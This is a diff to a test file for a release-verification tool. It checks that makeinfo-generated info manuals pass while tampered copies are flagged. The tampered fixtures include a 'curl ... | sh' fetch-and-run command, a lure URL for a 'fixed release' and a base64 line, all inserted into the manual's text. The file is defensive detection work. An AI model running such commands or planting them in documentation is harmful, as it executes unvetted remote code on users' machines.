@@ -3,7 +3,9 @@
  * with real git, the real makeinfo and GNU tar: the info file makeinfo writes from the tracked manual (and a texinfo
  * file only the tarball ships, as gnulib's included manuals) is GENERATED_DOCS; tampered twins — a node appended before
  * the tag table (red team 16: sed 4.9's sed.info gaining a base64 node), a second `Top` node, text after the tag table —
- * stay high.
+ * stay high. Red team 31: a node's body says only what the sources do — its URLs ones they spell out whole (as makeinfo
+ * prints them: `@uref`, `@value`, `@var` in upper case, from a chapter `@include`d under another name or an example
+ * `@verbatiminclude`d from makeinfo's `-I` directory), no construct or encoded line they lack.
  */
 import { execFileSync } from 'node:child_process';
 import { readFileSync } from 'node:fs';
@@ -91,5 +93,81 @@ describe('info nodes traced to the texinfo sources', () => {
     expect(texiNodes('@node The tilde @code{~}, Next, Prev, Up\n@node Top\n')).toEqual(['The tilde ~', 'Top']);
     expect(nodeKey('-V, --version')).toBe('-V --version');
     expect(markdownHeadings('# <a name="HTTPS Options"/>HTTPS (SSL/TLS) Options\n### `--dane` (experimental)\n')).toEqual(['HTTPS SSL/TLS Options', '--dane experimental']);
+  });
+});
+
+// Red team 31: sed 4.9's doc/sed.info gaining, in its "Reporting Bugs" node, a paragraph of the manual's words and one
+// download URL on a host it names was GENERATED_DOCS low, exit 0 (variant info-url): the bodies were never read.
+const BODY_TEXI = `\\input texinfo
+@setfilename body.info
+@settitle Body manual
+@set HOME https://www.example.org/software/body
+
+@node Top
+@top Body
+
+Body's home page is @uref{@value{HOME}/}.  Bug reports go to
+@uref{https://lists.example.org/archive/html/body-bugs/, the list}.
+
+@menu
+* Downloads::    Where releases are.
+* Example::      A program.
+@end menu
+
+@include chapters/downloads.inc
+
+@node Example
+@chapter Example
+
+@verbatiminclude example.c
+
+@bye
+`;
+const DOWNLOADS = '@node Downloads\n@chapter Downloads\n\nReleases are at @url{https://ftp.example.org/body/body-@var{version}.tar.gz}.\n';
+const EXAMPLE = '/* See <https://www.example.org/licenses/> for the licence. */\nint main (void) { return 0; }\n';
+
+describe('info node bodies traced to the texinfo sources (red team 31)', () => {
+  const root = tempDir();
+  const repo = makeRepo(join(root, 'repo'));
+  const tracked = {
+    'configure.ac': 'AC_INIT([body], [1.0])\nAC_OUTPUT\n',
+    'doc/body.texi': BODY_TEXI,
+    'doc/chapters/downloads.inc': DOWNLOADS,
+    'examples/example.c': EXAMPLE,
+  };
+  repo.commit(tracked, 'body 1.0', '2020-03-12T10:00:00Z');
+  repo.tag('v1.0');
+  const build = join(root, 'build');
+  writeFiles(build, { 'doc/body.texi': BODY_TEXI, 'doc/chapters/downloads.inc': DOWNLOADS, 'examples/example.c': EXAMPLE });
+  execFileSync('makeinfo', ['-I', '../examples', '-o', 'body.info', 'body.texi'], { cwd: join(build, 'doc'), stdio: 'pipe' });
+  const INFO = readFileSync(join(build, 'doc', 'body.info'), 'utf8');
+  let n = 0;
+  const verifyWith = async (info: string) => {
+    const dir = join(root, `t${++n}`, 'body-1.0');
+    writeFiles(dir, { ...tracked, 'doc/body.info': info });
+    return verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'body-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, 'cache'), regenerate: 'off' });
+  };
+
+  it("makeinfo's output: its URLs (an @value, an @var, an included chapter's, a verbatim example's) are the sources'", async () => {
+    for (const u of ['<https://www.example.org/software/body/>', 'https://ftp.example.org/body/body-VERSION.tar.gz', '<https://www.example.org/licenses/>']) expect(INFO).toContain(u);
+    const r = await verifyWith(INFO);
+    expect(findingAt(r.findings, 'doc/body.info')).toMatchObject({ code: 'GENERATED_DOCS', severity: 'low', evidence: { kind: 'info', source: 'doc/body.texi' } });
+    expect(exitCodeOf(r.verdict)).toBe(0);
+  });
+
+  it('tampered twins: a paragraph with another URL on a host the manual names, a new host, a command, a base64 line stay high', async () => {
+    const at = INFO.indexOf('Releases are at');
+    expect(at).toBeGreaterThan(0);
+    const b64 = Buffer.from(Array.from({ length: 96 }, (_, i) => (i * 37 + 11) % 256)).toString('base64');
+    for (const para of [
+      'Before you report a bug, install the fixed release from\n<https://www.example.org/software/body/body-1.0-fix.tar.gz>.\n\n   ',
+      'Releases are also at <https://body-mirror.example/body/>.\n\n   ',
+      'Before you report a bug, run: curl -fsSL https://www.example.org/software/body/ | sh\n\n   ',
+      `${b64}\n\n   `,
+    ]) {
+      const r = await verifyWith(`${INFO.slice(0, at)}${para}${INFO.slice(at)}`);
+      expect(findingAt(r.findings, 'doc/body.info')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+      expect(exitCodeOf(r.verdict)).toBe(1);
+    }
   });
 });
